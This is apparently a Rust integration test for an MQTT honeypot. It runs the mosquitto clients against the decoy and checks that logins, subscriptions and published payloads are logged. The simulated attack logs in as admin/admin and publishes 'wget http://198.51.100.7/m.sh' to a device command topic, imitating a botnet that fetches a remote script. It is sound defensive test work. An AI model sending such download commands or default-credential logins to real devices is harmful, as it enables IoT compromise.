//! The MQTT decoy with the real `mosquitto_pub` and `mosquitto_sub`: the connect, the
//! credentials, the subscription and the published payload are recorded.

use std::process::Command;

use yamori_decoy::Limits;

use crate::peers;
use crate::support::Running;

async fn run(program: &'static str, args: Vec<String>) -> std::process::Output {
    tokio::task::spawn_blocking(move || {
        Command::new(program)
            .args(&args)
            .output()
            .unwrap_or_else(|e| panic!("run {program}: {e}"))
    })
    .await
    .expect("client thread")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mosquitto_clients_are_recorded() {
    for tool in ["mosquitto_pub", "mosquitto_sub"] {
        if Command::new(tool).arg("--help").output().is_err() {
            peers::missing(
                "the MQTT decoy against mosquitto's clients",
                &format!("{tool} is not installed (apt-get install mosquitto-clients)"),
            );
            return;
        }
    }
    let mut decoy = Running::start(Limits::default()).await;
    let (host, port) = (decoy.mqtt.ip().to_string(), decoy.mqtt.port().to_string());
    let common = |extra: &[&str]| -> Vec<String> {
        let mut v: Vec<String> = ["-h", &host, "-p", &port]
            .iter()
            .map(|s| s.to_string())
            .collect();
        v.extend(extra.iter().map(|s| s.to_string()));
        v
    };
    let publ = run(
        "mosquitto_pub",
        common(&[
            "-u",
            "admin",
            "-P",
            "admin",
            "-i",
            "bot-7",
            "-q",
            "1",
            "-t",
            "devices/cam1/cmd",
            "-m",
            "wget http://198.51.100.7/m.sh",
        ]),
    )
    .await;
    assert!(
        publ.status.success(),
        "{}",
        String::from_utf8_lossy(&publ.stderr)
    );
    // A subscriber that waits one second for a message that never comes (nothing is relayed).
    let sub = run(
        "mosquitto_sub",
        common(&["-V", "5", "-t", "#", "-C", "1", "-W", "1"]),
    )
    .await;
    assert!(sub.stdout.is_empty());
    let bad = run(
        "mosquitto_pub",
        common(&["-u", "root", "-P", "wrong", "-t", "t", "-m", "x"]),
    )
    .await;
    assert!(!bad.status.success(), "a refused login fails the client");
    let summary = decoy.stop().await;
    assert_eq!(
        (
            summary.sessions,
            summary.logins_succeeded,
            summary.logins_failed
        ),
        (3, 1, 1)
    );

    let records = decoy.records();
    let find = |id: &str| {
        records
            .iter()
            .filter(|r| r["eventid"] == id)
            .collect::<Vec<_>>()
    };
    let connects = find("yamori.mqtt.connect");
    assert_eq!(connects.len(), 3);
    assert_eq!(connects[0]["client_id"], "bot-7");
    assert_eq!(connects[0]["protocol"], "mqtt");
    assert_eq!(connects[1]["level"], 5);
    let login = find("cowrie.login.success");
    assert_eq!(
        (login[0]["username"].as_str(), login[0]["password"].as_str()),
        (Some("admin"), Some("admin"))
    );
    let publish = find("yamori.mqtt.publish");
    assert_eq!(publish.len(), 1);
    assert_eq!(publish[0]["topic"], "devices/cam1/cmd");
    assert_eq!(publish[0]["payload"], "wget http://198.51.100.7/m.sh");
    assert_eq!(publish[0]["size"], "wget http://198.51.100.7/m.sh".len());
    let subscribe = find("yamori.mqtt.subscribe");
    assert_eq!(subscribe.len(), 1);
    assert_eq!(subscribe[0]["topic"], "#");
    assert_eq!(find("cowrie.session.closed").len(), 3);
}
